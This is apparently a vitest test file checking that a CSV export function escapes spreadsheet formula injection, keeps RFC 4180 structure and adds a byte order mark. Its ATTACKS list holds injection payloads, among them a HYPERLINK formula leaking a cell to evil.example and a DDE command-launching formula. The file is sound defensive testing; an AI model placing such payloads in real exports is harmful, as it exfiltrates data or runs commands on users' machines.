import { describe, expect, it } from 'vitest';
import { csvOf } from '../../src/http/csv.ts';

/** What a careful spreadsheet reads back: RFC 4180, quotes doubled. */
function read(csv: string): string[][] {
  const cells = [...csv.slice(1).matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/g)];
  const rows: string[][] = [[]];
  for (const [, quoted, bare, end] of cells) {
    rows.at(-1)?.push(quoted === undefined ? (bare ?? '') : quoted.replaceAll('""', '"'));
    if (end === '\r\n') rows.push([]);
  }
  return rows.slice(0, -1);
}

const ATTACKS = [
  '=HYPERLINK("http://evil.example?"&A1,"click")',
  "=cmd|' /C calc'!A0",
  '+1+cmd',
  '-2+3+cmd',
  '@SUM(1+1)*cmd',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠x',
  '"=1+1"',
  'x",=1+1,"y',
  'x\r\n=1+1',
  '=1,2',
];

describe('a table for spreadsheets', () => {
  it('begins with a byte order mark and ends its lines as RFC 4180 says', () => {
    const csv = csvOf([
      ['原因', 'ended'],
      ['少件', 3],
      ['', null],
    ]);
    expect(csv).toBe('\ufeff原因,ended\r\n少件,3\r\n,\r\n');
    expect(Buffer.from(csv, 'utf8').subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
  });

  it.each(ATTACKS)('%j is never a formula, and stays one cell', (attack) => {
    const rows = read(csvOf([['before', attack, 'after']]));
    expect(rows).toHaveLength(1);
    expect(rows[0]).toHaveLength(3);
    const [, cell = ''] = rows[0] ?? [];
    expect(cell).not.toMatch(/^\s*[=+\-@＝＋－＠]/);
    expect(cell).not.toMatch(/^[\t\r\n]/);
    // Nothing is lost by it: who reads the cell sees what was written.
    expect(cell.replace(/^'/, '')).toBe(attack);
  });

  it('leaves numbers numbers, negative ones too', () => {
    expect(csvOf([[-5, 0, 12.5]])).toBe('\ufeff-5,0,12.5\r\n');
  });

  it('leaves what is harmless as it was', () => {
    expect(csvOf([['卖家拒绝 a-b=c', '1,5', "it's"]])).toBe('\ufeff卖家拒绝 a-b=c,"1,5",it\'s\r\n');
  });
});
